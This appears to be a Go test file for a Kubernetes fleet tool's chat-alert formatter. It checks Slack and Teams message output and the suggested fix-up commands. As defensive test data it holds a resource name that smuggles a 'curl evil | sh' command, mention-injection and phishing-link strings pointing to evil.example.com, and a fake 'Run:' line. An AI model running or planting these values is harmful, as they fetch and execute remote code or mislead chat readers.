package format

import (
	"encoding/json"
	"fmt"
	"regexp"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/google/go-cmp/cmp"
	corev1 "k8s.io/api/core/v1"

	hubv1 "github.com/hanse-dev/hanse/api/v1alpha1"
)

// typo returns the notices that a wrong region in a placement causes.
func typo() []Notice {
	unscheduled, place, held := warning(hubv1.ReasonNoClusterSelected), warning("NotScheduled"), warning(hubv1.ReasonRemovalHeld)
	unscheduled.ID, unscheduled.Related, unscheduled.Detail = "1", &placement, "0 of 3 clusters: 3 not selected"
	place.ID, place.Regarding, place.Detail = "2", placement, "NoClusterSelected: Widget shop/web"
	held.ID, held.Regarding, held.Detail = "3", placement, "2 copies on 2 clusters would be removed"
	return []Notice{unscheduled, place, held}
}

func TestTheMessageOfATypoForSlack(t *testing.T) {
	body, err := Message{Hub: "hub-1", Notices: typo()}.Slack()
	if err != nil {
		t.Fatal(err)
	}
	want := `{"text":"Critical: Placement shop/widgets: RemovalHeld (and 2 more events)","unfurl_links":false,"unfurl_media":false,"blocks":[` +
		`{"type":"header","text":{"type":"plain_text","text":"Critical: Placement shop/widgets: RemovalHeld (and 2 more events)","emoji":false}},` +
		"{\"type\":\"section\",\"text\":{\"type\":\"mrkdwn\",\"text\":\"*RemovalHeld* `Placement shop/widgets`\\n```2 copies on 2 clusters would be removed```\",\"verbatim\":true}}," +
		"{\"type\":\"section\",\"text\":{\"type\":\"mrkdwn\",\"text\":\"*NoClusterSelected* `Widget shop/web`\\n```0 of 3 clusters: 3 not selected```\",\"verbatim\":true}}," +
		"{\"type\":\"section\",\"text\":{\"type\":\"mrkdwn\",\"text\":\"*NotScheduled* `Placement shop/widgets`\\n```NoClusterSelected: Widget shop/web```\",\"verbatim\":true}}," +
		"{\"type\":\"section\",\"text\":{\"type\":\"mrkdwn\",\"text\":\"Run: `hansectl confirm placement/widgets -n shop`\",\"verbatim\":true}}," +
		`{"type":"context","elements":[{"type":"mrkdwn","text":"hub hub-1, 2026-11-27T03:04:05Z","verbatim":true}]}]}`
	if diff := cmp.Diff(want, string(body)); diff != "" {
		t.Errorf("-want +got:\n%s", diff)
	}
}

func TestTheMessageOfATypoForTeams(t *testing.T) {
	body, err := Message{Hub: "hub-1", Notices: typo()}.Teams()
	if err != nil {
		t.Fatal(err)
	}
	var got teamsMessage
	if err := json.Unmarshal(body, &got); err != nil {
		t.Fatal(err)
	}
	var lines []string
	for _, block := range got.Attachments[0].Content.Body {
		text := ""
		for _, part := range block.Inlines {
			text += part.Text
		}
		lines = append(lines, block.Type+" "+text)
	}
	want := []string{
		"RichTextBlock Critical: Placement shop/widgets: RemovalHeld (and 2 more events)",
		"RichTextBlock RemovalHeld Placement shop/widgets", "RichTextBlock 2 copies on 2 clusters would be removed",
		"RichTextBlock NoClusterSelected Widget shop/web", "RichTextBlock 0 of 3 clusters: 3 not selected",
		"RichTextBlock NotScheduled Placement shop/widgets", "RichTextBlock NoClusterSelected: Widget shop/web",
		"RichTextBlock Run: hansectl confirm placement/widgets -n shop", "RichTextBlock hub hub-1, 2026-11-27T03:04:05Z",
	}
	if diff := cmp.Diff(want, lines); diff != "" {
		t.Errorf("-want +got:\n%s", diff)
	}
	if got.Type != "message" || got.Attachments[0].ContentType != "application/vnd.microsoft.card.adaptive" || got.Attachments[0].Content.Type != "AdaptiveCard" {
		t.Errorf("the envelope is %s", body)
	}
}

func TestTheCommandOfANotice(t *testing.T) {
	role := corev1.ObjectReference{APIVersion: "rbac.authorization.k8s.io/v1", Kind: "ClusterRole", Name: "a`; curl evil | sh; `"}
	operator := corev1.ObjectReference{APIVersion: "hanse.dev/v1alpha1", Kind: "FederatedOperator", Name: "rotors"}
	for name, tc := range map[string]struct {
		about          corev1.ObjectReference
		reason, action string
		want           string
	}{
		"an object":                           {widget, "Degraded", "Observe", "hansectl status Widget.example.com/web -n shop"},
		"a placement":                         {placement, "NotScheduled", "Schedule", "hansectl status placement/widgets -n shop"},
		"a held removal":                      {placement, hubv1.ReasonRemovalHeld, "Schedule", "hansectl confirm placement/widgets -n shop"},
		"a rollout of a placement":            {placement, hubv1.ReasonWaitingForApproval, "RollOut/asia/2", "hansectl rollout status placement/widgets -n shop"},
		"a cluster":                           {cluster, "ClusterUnreachable", "Connect", "kubectl describe membercluster/eu-fra-1"},
		"an operator":                         {operator, "InvalidChart", "Store", "hansectl operators rotors"},
		"a name that a shell would carry out": {role, "ApplyFailed", "Apply", "hansectl status ClusterRole.rbac.authorization.k8s.io/NAME"},
	} {
		n := warning(tc.reason)
		n.Regarding, n.Action = tc.about, tc.action
		if got := n.command(); got != tc.want {
			t.Errorf("%s: got %s, want %s", name, got, tc.want)
		}
	}
}

var forgeries = []string{
	"<!channel> <!here> <@U024BE7LH> <#C024BE7LR> <!subteam^S1> <https://evil.example.com|kubectl get pods>",
	"```<!everyone>``` `*bold* _x_", "@channel @Here @EVERYONE", "<at>Ada</at> {{DATE(2026-01-01, SHORT)}} {{{{", "[log in](https://evil.example.com)",
	"a\n*Run:* `curl evil | sh`\r\n\u2028\u202egnp\x1b[31m\xff", strings.Repeat("&<>`", 3000), strings.Repeat("世", 5000), strings.Repeat("\U0001f600\"\\", 4000),
}

func TestAChatReadsForgeriesAsText(t *testing.T) {
	for _, text := range forgeries {
		checkFormats(t, text, text, 20)
	}
}

func FuzzAChatReadsTextsAsText(f *testing.F) {
	for _, text := range forgeries {
		f.Add(text, text, uint8(20))
	}
	f.Fuzz(checkFormats)
}

// checkFormats checks messages with a number of events that have this text, and objects of this name.
func checkFormats(t *testing.T, text, name string, count uint8) {
	t.Helper()
	m := Message{Hub: "hub-1"}
	for i := range 1 + int(count)%60 {
		n := warning("ApplyFailed")
		n.ID, n.Detail, n.Regarding.Name, n.Regarding.Kind = fmt.Sprint(i), text, name, name
		m.Notices = append(m.Notices, n)
	}
	checkSlack(t, m)
	checkTeams(t, m)
	checkPagerDuty(t, m.Notices[0])
}

var called = regexp.MustCompile(`(?i)@(channel|here|everyone)|</?at|\{\{`)

func checkSlack(t *testing.T, m Message) {
	t.Helper()
	body, err := m.Slack()
	if err != nil {
		t.Fatal(err)
	}
	var got slackMessage
	if err := json.Unmarshal(body, &got); err != nil {
		t.Fatal(err)
	}
	if len(got.Blocks) > 50 {
		t.Errorf("there are %d blocks", len(got.Blocks))
	}
	texts := []slackText{{Text: got.Text, Type: "plain_text"}}
	for _, b := range got.Blocks {
		if b.Text != nil {
			texts = append(texts, *b.Text)
		}
		texts = append(texts, b.Elements...)
	}
	for _, text := range texts {
		limit := maxSlackSection
		if text.Type == "plain_text" {
			limit = maxSlackHeader
		} else if text.Verbatim == nil || !*text.Verbatim {
			t.Errorf("%q is not verbatim", text.Text)
		}
		if n := utf8.RuneCountInString(text.Text); n > limit {
			t.Errorf("a text has %d characters, want at most %d", n, limit)
		}
		if strings.ContainsAny(text.Text, "<>") || called.MatchString(text.Text) {
			t.Errorf("%q has a mention or a link", text.Text)
		}
		if strings.Count(text.Text, "`")%2 != 0 {
			t.Errorf("%q has an open code span", text.Text)
		}
	}
}

func checkTeams(t *testing.T, m Message) {
	t.Helper()
	body, err := m.Teams()
	if err != nil {
		t.Fatal(err)
	}
	if len(body) > 28<<10 {
		t.Errorf("the card has %d bytes", len(body))
	}
	var got struct {
		Attachments []struct {
			Content struct {
				Entities any `json:"msteams"`
				Body     []struct {
					Type    string
					Inlines []struct{ Type, Text string }
				}
			}
		}
	}
	if err := json.Unmarshal(body, &got); err != nil {
		t.Fatal(err)
	}
	if got.Attachments[0].Content.Entities != nil {
		t.Error("the card has entities, by which it could mention users")
	}
	for _, block := range got.Attachments[0].Content.Body {
		for _, part := range block.Inlines {
			if block.Type != "RichTextBlock" || part.Type != "TextRun" { // all other texts may have Markdown
				t.Errorf("there is a %s with a %s", block.Type, part.Type)
			}
			if called.MatchString(part.Text) || strings.ContainsAny(part.Text, "\n\r") {
				t.Errorf("%q has a mention or another line", part.Text)
			}
		}
	}
}
